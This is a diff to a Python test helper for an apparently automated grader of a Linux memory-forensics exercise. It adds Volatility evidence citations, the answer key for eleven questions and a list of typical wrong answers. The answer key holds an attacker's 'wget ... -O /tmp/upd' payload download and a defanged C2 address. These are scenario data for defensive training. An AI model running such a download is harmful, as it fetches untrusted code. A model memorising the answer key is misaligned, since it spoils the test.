@@ -8,6 +8,9 @@ from typing import Any
 import yaml
 from pydantic import TypeAdapter
 
+from training.grading.citations import Citation, Cited, CitedLine
+from training.grading.credit import History
+from training.grading.judge import Finding, Verdict, judge
 from training.grading.keys.syntax import Query
 from training.grading.proving import Sealed, seal
 from training.grading.question import Question, Questions
@@ -320,3 +323,58 @@ def row(plugin: str, **cells: object) -> dict[str, object]:
     found = [one for one in ROWS[Query(plugin)] if all(one[name] == value for name, value in cells.items())]
     assert len(found) == 1, found
     return found[0]
+
+
+def cite(plugin: str, **cells: object) -> Cited:
+    return Cited(plugin, "complete", row(plugin, **cells))
+
+
+RECORD = CitedLine("record", 4, "12:20:00 memory captured")
+PROOF: dict[str, list[Citation]] = {
+    "q1": [cite("linux.psaux", PID=145), cite("linux.proc.Maps", PID=145)],
+    "q2": [cite("linux.malware.process_spoofing", PID=145)],
+    "q3": [cite("linux.pslist", PID=pid) for pid in (1, 120, 145)],
+    "q4": [cite("linux.bash", PID=99, Command="ls"), cite("linux.bash", CommandTime="2026-03-10T12:09:20+00:00"),
+           cite("linux.pslist", PID=99)],
+    "q5": [cite("linux.bash", CommandTime="2026-03-10T12:09:02+00:00")],
+    "q6": [cite("linux.bash", CommandTime="2026-03-10T12:10:44+00:00"), cite("linux.pagecache.Files", InodeSize=9)],
+    "q7": [cite("linux.bash", CommandTime="2026-03-10T12:10:44+00:00"), cite("linux.pagecache.Files", InodeSize=9)],
+    "q8": [cite("linux.bash", Command="ls"), cite("linux.bash", Command="less list")],
+    "q9": [cite("linux.psscan", PID=140)],
+    "q10": [cite("linux.bash", CommandTime="2026-03-10T12:09:02+00:00"), cite("linux.pslist", PID=145),
+            cite("linux.bash", CommandTime="2026-03-10T12:10:44+00:00"), RECORD],
+    "q11": [cite("linux.sockstat", PID=145)],
+}  # fmt: skip
+RIGHT = {
+    "q1": "0x91",
+    "q2": "/memfd:upd (deleted)",
+    "q3": "145 < 120 < 1",
+    "q4": "120 99",
+    "q5": " wget http://files.example/a/upd -O /tmp/upd",
+    "q6": "2026-03-10 13:10:45 +01:00",
+    "q7": ARCHIVE,
+    "q8": "٤",
+    "q9": "ran some time before capture",
+    "q10": "fetch > start > archive > memory captured",
+    "q11": "hxxp://203[.]0[.]113[.]66:8443",
+}
+MISTAKES = [
+    ("q1", "17", "M-KTHR"), ("q1", "18", "M-KTHR"), ("q1", "120", "M-PPID"),
+    ("q2", "[kworker/2:1]", "M-COMM"), ("q2", "memfd:upd", "M-COMM"), ("q2", "/bin/busybox", "M-SCRIPT"),
+    ("q3", "145>120>1", "M-PPID"), ("q3", "1>140>145", "M-REMN"),
+    ("q4", "99, 120, 101", "M-ASH"), ("q4", "99, 120, 130", "M-NOLINES"),
+    ("q5", "wget http://mirror.example/list", "M-LOAD"), ("q5", "http://files.example/a/upd", "M-PART"),
+    ("q6", "2026-03-10 13:10:44", "M-HOUR"), ("q6", "2026-03-10 06:40:45", "M-HOUR"),
+    ("q6", "2026-03-10 11:58:01Z", "M-LOAD"),
+    ("q6", "2026-03-10 12:12:19Z", "M-OFFS"),
+    ("q7", "/srv/payroll", "M-SOURCE"), ("q7", ARCHIVE[:24], "M-TRUNC"),
+    ("q8", "5", "M-DUP"), ("q8", "0", "M-ABSENT"),
+    ("q9", "was", "M-REMN"), ("q9", "was hidden", "M-HIDDEN"),
+    ("q10", "start > fetch > archive > capture", "M-OFFS"), ("q10", "fetch > start > archive > sent", "M-ACT"),
+    ("q11", "192.0.2.17:60685", "M-ENDS"), ("q11", "0.0.0.0:22", "M-LISTEN"),
+]  # fmt: skip
+
+
+def submit(name: str, text: str, citations: list[Citation] | None = None, history: History | None = None) -> Verdict:
+    cited = PROOF[name] if citations is None else citations
+    return judge(question(name), Finding(text), sealed().keys[name], cited, history or History())
